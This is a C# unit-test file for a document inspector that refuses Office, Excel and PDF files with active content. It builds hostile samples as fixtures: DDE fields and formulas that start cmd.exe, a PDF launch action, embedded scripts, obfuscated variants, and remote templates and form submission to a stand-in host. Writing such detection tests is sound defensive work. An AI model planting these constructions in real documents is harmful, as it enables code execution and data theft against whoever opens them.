using System.Text;
using Ntm.Files;
using Ntm.Platform.Tests.Files.Corpus;
using static Ntm.Platform.Tests.Files.Corpus.PackageFile;
using static Ntm.Platform.Tests.Files.Corpus.WordFiles;

namespace Ntm.Platform.Tests.Files;

/// <summary>What would run, load or fetch something is refused, whatever its parts are called, with what to do about it.</summary>
public sealed class HostileFilesTests
{
    private const string Body = "word/document.xml";
    private const string Part = "word/media/image7.png";

    /// <summary>By what is declared; every part has the innocent name of a picture.</summary>
    private static readonly Dictionary<string, (Func<PackageFile> File, string Reason)> Office = new()
    {
        ["macros by type"] = (() => Hidden("application/vnd.ms-office.vbaProject"), "macro"),
        ["macros by relationship"] = (() => Related(OfMicrosoft + "vbaProject"), "macro"),
        ["a document of the type with macros"] = (
            () =>
                new PackageFile()
                    .Part(Body, "application/vnd.ms-word.document.macroEnabled.main+xml", $"<w:document {Names}/>")
                    .Relate("", PackageFile.Office + "officeDocument", Body),
            "macro"
        ),
        ["a macro sheet"] = (() => Hidden("application/vnd.ms-excel.macrosheet+xml"), "macro"),
        ["an international macro sheet"] = (() => Related(OfMicrosoft + "xlIntlMacrosheet"), "macro"),
        ["an object by type"] = (() => Hidden("application/vnd.openxmlformats-officedocument.oleObject"), "OLE"),
        ["an object by relationship"] = (() => Related(PackageFile.Office + "oleObject"), "OLE"),
        ["an object by its bytes"] = (
            () => With("").Default("png", "image/png").Part(Part, null, [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]),
            "OLE"
        ),
        ["an object of another machine"] = (() => External("oleObject", "http://ke-xau.example/a.html!"), "OLE"),
        ["a control"] = (() => Hidden("application/vnd.ms-office.activeX+xml"), "ActiveX"),
        ["a template of another machine"] = (() => External("attachedTemplate", "https://ke-xau.example/a.dotm"), "máy khác"),
        ["a template of a share"] = (() => External("attachedTemplate", "file:///\\\\ke-xau\\chung\\a.dotm"), "máy khác"),
        ["a frame of another machine"] = (() => External("frame", "\\\\ke-xau\\a.htm"), "máy khác"),
        ["a link that is a script"] = (() => External("hyperlink", "javascript:alert(1)"), "mã lệnh"),
        ["a web page inside"] = (() => Related(PackageFile.Office + "aFChunk"), "mã lệnh"),
        ["a script by type"] = (() => Hidden("text/javascript"), "mã lệnh"),
        ["an add-in"] = (() => Related("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"), "mã lệnh"),
        ["a program of .NET beside it"] = (
            () => With("").Part("docProps/custom.xml", null, "<Properties><property name=\"_AssemblyLocation\"/></Properties>"),
            "mã lệnh"
        ),
        ["DDE"] = (() => With(Field("DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"")), "DDE"),
        ["DDE in pieces"] = (() => With(Field(" D", "DE", "AUTO cmd")), "DDE"),
        ["DDE in one word"] = (() => With("<w:fldSimple w:instr=\" dde excel x y\"/>"), "DDE"),
        ["DDE that a field makes up"] = (() => With($"<w:p>{Mark("begin")}{Field("QUOTE 68 68 69")} {Mark("end")}</w:p>"), "DDE"),
        ["DDE in a header"] = (
            () => With("").Part("word/header1.xml", Word + "header+xml", $"<w:hdr {Names}>{Field("DDE a")}</w:hdr>"),
            "DDE"
        ),
        ["a linked object as a field"] = (() => With(Field("LINK Excel.Sheet.12 \"C:\\\\a.xlsx\"")), "OLE"),
        ["a program inside"] = (() => With("").Part("word/media/a.exe", null, new byte[10]), "nhúng"),
        ["hostile figures of a chart"] = (() => WithChart(Sheet("<f>cmd|'/c calc'!A0</f>").ToBytes()), "DDE"),
        ["packages in packages"] = (() => WithChart(WithChart(WithChart(Desktop().ToBytes()).ToBytes()).ToBytes()), "nhúng"),
        ["no package in a package"] = (() => WithChart([1, 2, 3]), "nhúng"),
    };

    private static readonly Dictionary<string, (Func<PackageFile> File, string Reason)> Workbooks = new()
    {
        ["DDE as a formula"] = (() => Sheet("<f>cmd|'/c calc'!A0</f>"), "DDE"),
        ["DDE as a name"] = (
            () => Sheet("").Part("xl/a.xml", Excel + "sheet.main+xml", "<workbook><definedName>cmd|'/c a'!A0</definedName></workbook>"),
            "DDE"
        ),
        ["DDE as a link"] = (() => Link("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/>"), "DDE"),
        ["an object as a link"] = (() => Link("<oleLink progId=\"Package\"/>"), "OLE"),
    };

    private static readonly Dictionary<string, Func<byte[]>> Pdf = new()
    {
        ["a script"] = () => PdfFiles.Of("1.7", "<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        ["a script with escapes"] = () => PdfFiles.Of("1.7", "<</S/J#61vaScrip#74/JS(1)>>"),
        ["a script in compressed objects"] = () => PdfFiles.Of("1.7", Objects("7 0 <</S/JavaScript/JS(1)>>")),
        ["a script behind a false stream"] = () => PdfFiles.Of("1.7", "<</A 1>> % stream\n", Objects("7 0 <</S/JavaScript>>")),
        ["a script before a false end"] = () => PdfFiles.Of("1.7", Objects("7 0 <</S/JavaScript>>", "/X(endstream\nendobj)")),
        ["a program that is started"] = () => PdfFiles.Of("1.7", "<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
        ["a file inside"] = () => PdfFiles.Of("1.7", "<</Names<</EmbeddedFiles 3 0 R>>>>"),
        ["a dynamic form"] = () => PdfFiles.Of("1.7", "<</AcroForm<</XFA 3 0 R>>>>"),
        ["a form that sends"] = () => PdfFiles.Of("1.7", "<</A<</S/SubmitForm/F(http://ke-xau.example)>>>>"),
        ["a film that plays"] = () => PdfFiles.Of("1.7", "<</Subtype/RichMedia>>"),
        ["another file that opens"] = () => PdfFiles.Of("1.7", "<</S/GoToR/F(\\\\\\\\ke-xau\\\\a.pdf)>>"),
        ["objects that cannot be read"] = () =>
            PdfFiles.Of("1.7", PdfFiles.Stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", new byte[40]), "<</Encrypt 9 0 R>>"),
        ["objects under another filter"] = () =>
            PdfFiles.Of("1.7", Objects("7 0 <<>>"), PdfFiles.Stream("/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]", new byte[9])),
    };

    public static TheoryData<string> OfOffice => [.. Office.Keys];

    public static TheoryData<string> OfExcel => [.. Workbooks.Keys];

    public static TheoryData<string> OfPdf => [.. Pdf.Keys];

    [Theory]
    [MemberData(nameof(OfOffice))]
    public void A_text_that_would_do_something_is_refused_with_what_to_do(string what) =>
        AssertRefused(Office[what].File().ToBytes(), "a.docx", Office[what].Reason);

    [Theory]
    [MemberData(nameof(OfExcel))]
    public void A_workbook_that_would_do_something_is_refused_with_what_to_do(string what) =>
        AssertRefused(Workbooks[what].File().ToBytes(), "a.xlsx", Workbooks[what].Reason);

    [Theory]
    [MemberData(nameof(OfPdf))]
    public void A_pdf_that_would_do_something_is_refused_with_what_to_do(string what) =>
        AssertRefused(Pdf[what](), "a.pdf", "in lại thành PDF");

    [Fact]
    public void Two_parts_of_one_name_are_refused() =>
        AssertRefused(With("").Part("word/a.xml", null, "<a/>").Part("word/A.xml", null, "<a/>").ToBytes(), "a.docx", "trùng tên");

    [Fact]
    public void A_document_type_in_a_part_is_refused_and_never_expanded()
    {
        var bytes = new PackageFile()
            .Part(Body, Word + "document.main+xml", Encoding.UTF8.GetBytes("<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>"))
            .Relate("", PackageFile.Office + "officeDocument", Body)
            .ToBytes();

        Assert.Equal("file.mislabelled", Assert.Single(Inspect(bytes, "a.docx").Faults).Code);
    }

    private static PackageFile Hidden(string type) => With("").Part(Part, type, "<a/>");

    private static PackageFile Related(string type) =>
        With("").Default("png", "image/png").Part(Part, null, new byte[4]).Relate(Body, type, "media/image7.png");

    private static PackageFile External(string kind, string target) =>
        With("").Relate(Body, PackageFile.Office + kind, target, external: true);

    private static PackageFile Sheet(string cell) => ExcelFiles.Plain($"<row><c>{cell}</c></row>");

    private static PackageFile Link(string link) =>
        Sheet("").Part("xl/externalLinks/externalLink1.xml", Excel + "externalLink+xml", $"<externalLink>{link}</externalLink>");

    private static byte[] Objects(string objects, string more = "") =>
        PdfFiles.Stream($"/Type/ObjStm/N 1/First 4{more}/Filter/FlateDecode", PdfFiles.Packed(objects));

    private static void AssertRefused(byte[] bytes, string name, string reason)
    {
        var fault = Assert.Single(Inspect(bytes, name).Faults);
        Assert.Equal("file.unsafe", fault.Code);
        Assert.Contains(reason, fault.Message, StringComparison.Ordinal);
        Assert.Contains("tải", fault.Message, StringComparison.Ordinal);
    }

    private static FileInspection Inspect(byte[] bytes, string name)
    {
        using var stream = new MemoryStream(bytes);
        return FileInspector.Inspect(stream, name, Enum.GetValues<FileKind>(), "Hồ sơ", 25 * 1024 * 1024);
    }
}
